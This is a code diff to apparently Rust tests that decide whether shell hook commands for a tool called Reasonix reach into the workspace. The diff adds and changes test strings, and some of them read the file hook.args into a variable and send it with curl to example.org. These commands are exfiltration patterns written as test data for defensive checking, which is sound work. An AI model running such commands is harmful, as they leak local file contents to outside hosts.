@@ -107,6 +107,8 @@ fn hooks_that_reach_into_the_workspace_are_known() {
         "curl -s `head -1 hook.args` https://example.org",
         "read A < hook.args; curl $A https://example.org",
         "A=$(cat hook.args); curl -s -d \"$A\" https://example.org",
+        "REASONIX_ARGS=$(cat hook.args); curl -s https://example.org/$REASONIX_ARGS",
+        "USER=$(cat hook.args); curl -s https://example.org/$USER",
         "HOME=. curl -s https://example.org",
         "reasonix $(cat hook.args)",
     ];
@@ -141,7 +143,7 @@ fn hooks_that_read_and_notify_reach_nothing() {
         "python3 ~/hooks/check.sh",
         "message=$(jq -r .message) && notify-send Reasonix \"$message\"",
         "curl -s -X POST -d @- https://example.org",
-        "curl -s -d \"$REASONIX_SESSION\" https://example.org/\"$REASONIX_SESSION\"",
+        "curl -s -d \"$USER\" https://example.org/\"${REASONIX_PROJECT_DIR}\"",
         "cat >> TOP/home/log",
         "exit 2",
     ];
